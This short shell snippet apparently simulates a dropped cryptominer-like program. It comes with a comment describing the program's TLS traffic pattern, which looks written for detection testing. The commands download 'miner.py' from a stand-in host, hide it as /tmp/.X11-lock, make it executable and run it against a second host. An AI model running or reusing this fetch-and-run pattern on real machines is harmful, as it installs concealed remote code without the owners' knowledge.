# A dropped program keeps a TLS connection open for six minutes. The program sends no server name (SNI) and sets the
# socket options of XMRig. It sends messages of one size at random times and receives unrequested messages. All data is
# encrypted.
curl -s -o /tmp/.X11-lock http://203.0.113.10/miner.py
chmod +x /tmp/.X11-lock
/tmp/.X11-lock tls 203.0.113.20 443 360
